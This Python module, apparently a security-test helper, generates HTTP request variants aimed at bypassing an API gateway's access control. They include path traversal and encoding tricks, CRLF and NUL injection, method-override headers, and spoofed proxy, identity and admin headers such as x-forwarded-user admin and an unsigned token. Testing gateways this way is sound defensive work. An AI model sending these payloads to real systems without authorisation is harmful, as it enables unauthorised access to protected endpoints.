"""Other ways to write a request, of which somewhere some gateway checked one reading and served another."""

from __future__ import annotations

from collections.abc import Mapping
from typing import NamedTuple
from urllib.parse import quote

OPEN = "/health"
"""A path that is open to all."""


class Trick(NamedTuple):
    """`same`: it only writes the same request otherwise, and has the same answer."""

    method: str
    target: str
    headers: Mapping[str, str] = {}
    same: bool = False


def tricks(method: str, path: str, query: str, host: str) -> dict[str, Trick]:
    """By name. Args: path: begins with a slash.  query: with its question mark, or empty."""
    targets = {name: Trick(method, target + query) for name, target in _paths(path).items()}
    same = {name: Trick(method, target + query, same=True) for name, target in _same(path, host).items()}
    return {**targets, **same, **_methods(method, path + query), **_headers(method, path, query)}


def _paths(path: str) -> dict[str, str]:
    """None of these is the path."""
    head, _, tail = path.rpartition("/")
    return {
        "a slash at the end": f"{path}/",
        "a double slash": f"/{path}",
        "a double slash within": f"{head}//{tail}",
        "in upper case": path.upper(),
        "one letter in upper case": f"{head}/{tail.capitalize()}",
        "an encoded slash": f"{head}%2f{tail}",
        "an encoded first slash": f"/%2f{path[1:]}",
        "a back slash": f"{head}\\{tail}",
        "an encoded back slash": f"{head}%5c{tail}",
        "through an open path": f"{OPEN}/..{path}",
        "through an open path, encoded": f"{OPEN}/%2e%2e{path}",
        "through an open path, all encoded": f"{OPEN}%2f%2e%2e%2f{path[1:]}",
        "through an open page": f"/docs/..{path}",
        "through an open page, encoded": f"/docs/..%2f{path[1:]}",
        "through a model": f"/v1/models/../..{path}",
        "through a model, encoded": f"/v1/models/..%2f..{path}",
        "from above": f"/..{path}",
        "here": f"/.{path}",
        "here within": f"{head}/./{tail}",
        "back at the end": f"{path}/x/..",
        "parameters": f"{path};a=b",
        "parameters within": f"{head};a=b/{tail}",
        "parameters of an open path": f"{OPEN};/..{path}",
        "an encoded question mark": f"{OPEN}%3f/..{path}",
        "an encoded fragment": f"{path}%23",
        "a NUL": f"{path}%00",
        "a line end": f"{path}%0d%0a",
        "a space": f"{path}%20",
        "twice encoded": quote(_encoded(path)),
        "over-long UTF-8": f"{head}%c0%af{tail}",
        "another extension": f"{path}.json",
        "an open page's extension": f"{path}/swagger-ui.css",
    }


def _same(path: str, host: str) -> dict[str, str]:
    """HTTP says that these are."""
    return {
        "encoded": _encoded(path),
        "absolute": f"http://{host}{path}",
        "absolute, of another host": f"http://elsewhere.example{path}",
        "absolute, with a name": f"http://admin:secret@{host}{path}",
        "a fragment": f"{path}?#{OPEN}",
    }


def _encoded(path: str) -> str:
    return "/".join("".join(f"%{ord(letter):02x}" for letter in part) for part in path.split("/"))


def _methods(method: str, target: str) -> dict[str, Trick]:
    said = {f"{name} instead": Trick(name, target) for name in ("OPTIONS", "TRACE", "PROPFIND", method.lower())}
    named = ("x-http-method-override", "x-http-method", "x-method-override", "x-method")
    other = "POST" if method == "GET" else "GET"
    meant = {f"{other} with {name}": Trick(other, target, {name: method}) for name in named}
    heads = {"HEAD": Trick("HEAD", target)} if method == "GET" else {}
    mark = "&" if "?" in target else "?"
    return {**said, **meant, **heads, "a method in the query": Trick("GET", f"{target}{mark}_method={method}")}


def _headers(method: str, path: str, query: str) -> dict[str, Trick]:
    """What proxies tell the servers behind them; here a client says it."""
    claims = {
        "x-original-url": OPEN,
        "x-rewrite-url": OPEN,
        "x-forwarded-uri": OPEN,
        "x-forwarded-prefix": OPEN,
        "x-forwarded-for": "127.0.0.1",
        "x-real-ip": "127.0.0.1",
        "x-forwarded-user": "admin",
        "x-remote-user": "admin",
        "x-routeiq-internal-assertion": "e30.e30.",
        "x-routeiq-internal-role": "admin",
        "x-admin-api-key": "admin",
        "cookie": "token=admin; session=admin",
        "litellm-changed-by": "default_user_id",
    }
    return {f"{name} says so": Trick(method, path + query, {name: one}, True) for name, one in claims.items()}
